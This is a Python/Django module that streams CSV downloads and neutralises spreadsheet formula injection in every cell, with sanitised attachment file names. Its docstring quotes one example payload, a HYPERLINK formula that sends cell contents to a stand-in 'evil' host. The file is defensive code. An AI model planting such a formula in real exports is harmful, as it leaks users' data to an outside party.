"""CSV downloads: the one writer every export uses, with spreadsheet formulas in every cell neutralised.

A cell whose text starts with =, +, -, @, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets (`=HYPERLINK("http://evil/?"&A1, "click")`). Every such text cell gets a leading apostrophe,
which spreadsheets show as text and do not evaluate; the writer does it for every cell of every row, so an export
cannot forget a column (the audit log once neutralised only its summary). Numbers (int, float, Decimal) are
written as they are: a negative number is not a formula. The file name is a safe slug (qualitygov.text).
"""

import csv
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import StreamingHttpResponse

from .text import safe_filename

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """The cell to write for `value`: text a spreadsheet will not run as a formula; None becomes empty."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """csv.writer that neutralises every cell; writerow returns what it wrote (for streaming)."""

    def __init__(self, out):
        self._writer = csv.writer(out)

    def writerow(self, row):
        return self._writer.writerow([csv_cell(cell) for cell in row])


class _Echo:
    """A file-like object whose write returns the line, so the writer can feed a streaming response."""

    def write(self, value):
        return value


def attachment(filename: str) -> str:
    """Content-Disposition for a download named after user text: `traceability-PAY-2.0<CR><LF>.csv` becomes
    `traceability-PAY-2.0.csv`."""
    stem, _, ext = filename.rpartition(".")
    return f'attachment; filename="{safe_filename(stem or ext, ext=ext if stem else "bin")}"'


def csv_response(*, filename: str, header: Sequence[str], rows: Iterable[Sequence]) -> StreamingHttpResponse:
    """Stream `header` then `rows`, every cell neutralised, as an attachment named safely after `filename`."""
    writer = SafeWriter(_Echo())

    def lines():
        yield writer.writerow(header)
        for row in rows:
            yield writer.writerow(row)

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = attachment(filename)
    return response
